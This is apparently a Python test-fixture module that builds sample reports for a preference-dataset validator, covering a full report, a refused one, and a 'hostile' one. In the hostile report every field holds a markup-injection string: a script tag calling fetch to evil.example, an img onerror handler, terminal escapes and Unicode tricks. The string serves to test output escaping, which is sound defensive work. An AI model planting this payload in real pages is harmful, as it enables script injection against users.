"""Reports made by hand: one with everything in it, one of a hostile file."""

from math import exp

from core.contract.advice import Recommended
from core.contract.finding import Finding
from core.contract.findings import finding
from preferences.report import (
    Counts,
    FileError,
    LineError,
    Notice,
    Report,
    Sample,
    SampleAnswer,
    Spread,
    Verdict,
)

HOSTILE = (
    """</style><script>fetch('https://evil.example')</script><img src=x onerror=alert(1)>"'&amp;\x1b[2J\u202e\ud800"""
)


def outline(middle: float) -> list[tuple[int, int]]:
    """A bell over the logarithm of lengths."""
    return [
        (round(exp(step / 50)), round(40 * exp(-((step / 50 - middle) ** 2) / 0.7)))
        for step in range(150, 430)
        if exp(-((step / 50 - middle) ** 2) / 0.7) > 0.002
    ]


def findings() -> list[Finding]:
    slices = [
        {"by": "source", "name": "forum", "pairs": 812, "contradictions": 0.21, "chosen_longer": 0.71},
        {"by": "source", "name": "support", "pairs": 2188, "contradictions": 0.002, "chosen_longer": 0.55},
    ]
    return [
        finding(
            "contradictions",
            0.034,
            count=102,
            share=0.034,
            examples=[(n * 37, f"line {n * 37 + 11} says the opposite of the same two answers") for n in range(1, 15)],
        ),
        finding(
            "length_bias",
            0.71,
            count=2130,
            share=0.71,
            examples=[(74, "chosen 1,204 characters, rejected 96")],
            detail={"interval": [0.69, 0.73], "median_ratio": 1.62},
        ),
        finding("format_bias", 31.0, detail={"list": {"chosen": 0.52, "rejected": 0.21}, "code": {"chosen": 0.1}}),
        finding("exact_duplicates", 0.004, count=12, share=0.004, examples=[(9, "as line 3")]),
        finding("prompt_coverage", 0.012, detail={"distinct": 2960, "effective": 2899.4}),
        finding("effective_size", 47, count=2984, share=1.0),
        finding("slices", 2, detail={"slices": slices}),
    ]


def samples() -> list[Sample]:
    long = "First look at what the question asks for. " * 14
    return [
        Sample(
            line=37 * n,
            prompt=f"How do I boil an egg so that it stays soft? ({n})",
            answers=[
                SampleAnswer(name="chosen", text=f"Six minutes in boiling water, then under the tap. {long}"),
                SampleAnswer(name="rejected", text="Ten minutes. Reach me at <email>."),
            ],
            codes=["contradictions"] if n < 3 else [],
        )
        for n in range(1, 6)
    ]


def full() -> Report:
    """Usable, with findings of each severity."""
    return Report(
        file="support-and-forum.jsonl.gz",
        format="trl_conversational",
        kind="pair",
        container="jsonl in gzip",
        digest="ab" * 32,
        counts=Counts(
            lines=3012,
            records=3012,
            bad=12,
            pairs=3000,
            useless=16,
            usable=2984,
            identical_pairs=13,
            empty_rejected=3,
            chosen_longer=2130,
            same_length=36,
            multi_turn=2088,
        ),
        mapping={"prompt": "prompt", "chosen": "chosen", "rejected": "rejected"},
        lengths={
            "prompt": Spread(median=212, p95=1804, max=13283),
            "chosen": Spread(median=437, p95=1580, max=5210),
            "rejected": Spread(median=270, p95=1102, max=4020),
        },
        histograms={"chosen": outline(6.1), "rejected": outline(5.5)},
        samples=samples(),
        checks=findings(),
        verdict=Verdict(
            gate="block",
            score=58,
            top_actions=[each.action for each in findings()[:3]],
            recommended=Recommended(
                loss="sigmoid_norm",
                label_smoothing=0.03,
                why=["The chosen answers are longer by a factor of 1.6.", "3.4% of the pairs contradict each other."],
            ),
        ),
        errors=[
            LineError(
                line=n * 100,
                column=17 if n % 3 == 0 else None,
                path="" if n % 3 == 0 else "chosen",
                code="json_invalid" if n % 3 == 0 else "chosen_equals_rejected",
                message="Expected a comma." if n % 3 == 0 else "The two answers are the same.",
                hint="Correct the line." if n % 3 == 0 else "Drop the pair, or mend one answer.",
                excerpt='{"prompt": [{"role": "user", "content": "Hi"}] "chosen": []}',
            )
            for n in range(1, 29)
        ],
        errors_by_code={"chosen_equals_rejected": 13, "completion_empty": 3, "json_invalid": 12},
        warnings=[Notice(code="extra_fields", message="Unknown fields: batch.", count=3000, lines=[1, 2, 3])],
        status_details="2,984 pairs taken; left out: 13 chosen_equals_rejected, 3 completion_empty, 12 json_invalid.",
    )


def refused() -> Report:
    """Not usable: no verdict, no digest."""
    report = full().model_copy(update={"checks": [], "verdict": None, "digest": None, "samples": []})
    report.error = FileError(code="too_many_bad_lines", message="12 of 3,012 records cannot be read.")
    return report


def hostile() -> Report:
    """Every text of it tries to be markup."""
    report = full()
    said = HOSTILE
    report.file = said
    report.format = report.container = said
    report.mapping = {said: said}
    report.status_details = said
    report.samples = [Sample(line=1, prompt=said, answers=[SampleAnswer(name=said, text=said)] * 2, codes=[said])]
    report.checks = [
        Finding(
            code=said,
            title=said,
            severity=severity,
            value=0.5,
            unit=said,
            threshold=0.1,
            count=3,
            examples=[{"line": 1, "note": said}],  # type: ignore[list-item]
            action=said,
            detail={said: said, "in": {said: [said, {said: said}]}, "rows": [{said: said}]},
        )
        for severity in ("block", "warn", "info")
    ]
    report.checks.append(finding("slices", 1, detail={"slices": [{"name": said, said: 1}]}))
    report.verdict = Verdict(gate="block", score=1, top_actions=[said], recommended=Recommended(loss=said, why=[said]))
    fields = dict.fromkeys(("path", "code", "message", "hint", "excerpt"), said)
    report.errors = [LineError(line=1, **fields)]
    report.errors_by_code = {said: 1}
    report.warnings = [Notice(code=said, message=said, count=1)]
    return report
